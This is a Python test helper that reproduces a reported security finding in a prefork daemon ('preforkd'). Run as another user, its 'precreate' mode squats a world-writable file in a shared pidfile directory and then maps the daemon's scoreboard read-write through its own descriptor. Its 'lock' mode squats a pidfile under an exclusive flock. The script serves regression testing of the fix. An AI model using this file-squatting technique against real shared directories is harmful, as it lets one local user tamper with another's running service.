#!/usr/bin/env python3
"""Another user's files in a shared pidfile directory (issue 15, finding 3).

Run as that user (the tests: setpriv --reuid=nobody ... python3 - ARGS <
this file, so that the script need not be readable by her):

  squatter.py precreate PATH SECONDS
      Create PATH (mode 0666, hers), keep it open read-write, print
      "ready", then watch through her own descriptor for SECONDS: when the
      file turns into a preforkd scoreboard (its magic "preforkd-sb"), map
      it read-write and print "mapped the master's table read-write"
      (exit 0) -- the attack worked.  Else print "never saw the table"
      (exit 1).

  squatter.py lock PATH CONTENT SECONDS
      Create (or truncate) PATH, hers, write CONTENT and a newline, take an
      exclusive flock() on it as a running preforkd would, print "ready",
      and hold it for SECONDS.
"""
import fcntl
import mmap
import os
import sys
import time

MAGIC = b"preforkd-sb"


def precreate(path, seconds):
    os.umask(0)
    fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o666)
    print("ready", flush=True)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if os.pread(fd, len(MAGIC), 0) == MAGIC:
            size = os.fstat(fd).st_size
            m = mmap.mmap(fd, size, mmap.MAP_SHARED,
                          mmap.PROT_READ | mmap.PROT_WRITE)
            m.close()
            print("mapped the master's table read-write (%d bytes)" % size,
                  flush=True)
            return 0
        time.sleep(0.05)
    print("never saw the table", flush=True)
    return 1


def lock(path, content, seconds):
    os.umask(0o022)
    fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o644)
    os.write(fd, (content + "\n").encode())
    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    print("ready", flush=True)
    time.sleep(seconds)
    return 0


def main(argv):
    if argv[1] == "precreate":
        return precreate(argv[2], float(argv[3]))
    if argv[1] == "lock":
        return lock(argv[2], argv[3], float(argv[4]))
    sys.exit("usage: squatter.py precreate PATH SECONDS | lock PATH CONTENT "
             "SECONDS")


if __name__ == "__main__":
    sys.exit(main(sys.argv))
